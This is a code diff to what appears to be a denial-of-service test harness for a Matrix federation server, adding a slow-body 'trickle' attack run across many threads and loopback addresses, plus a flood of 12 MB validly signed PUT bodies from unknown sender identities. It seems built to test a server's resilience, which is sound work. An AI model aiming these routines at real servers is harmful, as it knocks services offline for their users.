@@ -8,6 +8,7 @@ import http.client
 import http.server
 import multiprocessing
 import os
+import select
 import socket
 import ssl
 import subprocess
@@ -183,6 +184,89 @@ class OneByteShort(Attack):
         return Spent(sum(part.requests for part in parts), sum(part.sent for part in parts))
 
 
+def trickle(target, until, address, size, count):
+    """`count` bodies at once of which all but a part comes at once, and that part in drops; again when given up."""
+    spent = Spent()
+    body = b'{"pdus":[{"x":"' + b"x" * size
+    head = f"Host: x\r\nContent-Length: {len(body)}\r\n"
+    head += f"Authorization: {forged(Identity.p2p('stranger').name, target)[0]}\r\n\r\n"
+
+    def hold():
+        while time.monotonic() < until:
+            with contextlib.suppress(OSError), socket.create_connection(target.place, 5, source(address)) as wire:
+                spent.requests += 1
+                wire.sendall(f"PUT {leave_uri(target, spent.requests)} HTTP/1.1\r\n{head}".encode())
+                at = len(body) * 19 // 20
+                wire.sendall(body[:at])
+                spent.sent += at
+                while at < len(body) - 5000 and time.monotonic() < until:
+                    wire.sendall(body[at : at + 4000])
+                    at += 4000
+                    spent.sent += 4000
+                    if select.select([wire], [], [], 0.9)[0]:
+                        break  # it was given up
+            time.sleep(0.05)
+
+    threads = [threading.Thread(target=hold) for _ in range(count)]
+    for thread in threads:
+        thread.start()
+    for thread in threads:
+        thread.join()
+    return spent
+
+
+class SlowBodies(Attack):
+    """Together more than three times what all bodies may hold."""
+
+    name = "large bodies sent slowly"
+
+    def run(self, target, until):
+        parts = [(f"127.0.2.{n}", size, 1) for n in range(1, 9) for size in (LARGE, 4_000_000)]
+        parts += [("127.0.2.20", 1_000_000, 12), ("127.0.2.21", 250_000, 60)]
+        with multiprocessing.Pool(len(parts)) as pool:
+            jobs = [pool.apply_async(trickle, (target, until, *part)) for part in parts]
+            spent = [job.get(timeout=120) for job in jobs]
+        return Spent(sum(part.requests for part in spent), sum(part.sent for part in spent))
+
+
+def leave_large(target, until, address):
+    """12 MB after the other, each signed well."""
+    spent = Spent()
+    stranger = Identity.p2p(f"stranger {address}")
+    filling = b",".join([b"1234567"] * (LARGE // 8))
+    connection = None
+    while time.monotonic() < until:
+        uri = leave_uri(target, spent.requests)
+        body = b'{"pdus":[{"n":[%d,%s]}]}' % (spent.requests, filling)
+        authorization = sign_text(stranger, uri, target, body)
+        try:
+            if connection is None:
+                connection = http.client.HTTPConnection(*target.place, timeout=30, source_address=source(address))
+            spent.requests += 1
+            put(connection, uri, body, [authorization])
+            spent.sent += len(body)
+        except (OSError, http.client.HTTPException):
+            connection = None
+    return spent
+
+
+def sign_text(identity, uri, target, body):
+    """The header for a body that is canonical already."""
+    text = b'{"content":%s,"destination":"%s","method":"PUT","origin":"%s","uri":"%s"}'
+    text %= (body, target.name.encode(), identity.name.encode(), uri.encode())
+    signature = text64(identity.key.sign(text).signature)
+    return (
+        f'X-Matrix origin="{identity.name}",key="{identity.key_id}",sig="{signature}",destination="{target.name}"'
+    )
+
+
+class LargeMail(Attack):
+    name = "12 MB of valid mail of unknown senders"
+
+    def run(self, target, until):
+        return from_addresses(leave_large, target, until, [f"127.0.2.{n}" for n in range(1, 7)])
+
+
 def ask_silent(target, until, address, number):
     """Requests of names whose key server takes connections and says nothing."""
     spent = Spent()
@@ -300,6 +384,8 @@ ATTACKS = [
     Bodies("12 MB of floats, signed badly", many_numbers(b"1.50")),
     Bodies("12 MB with eight signatures", many_numbers(b"1.50"), tuple(f"ed25519:k{n}" for n in range(8))),
     OneByteShort(),
+    SlowBodies(),
+    LargeMail(),
     SilentNames(),
     InventedNames(),
     Flood(),
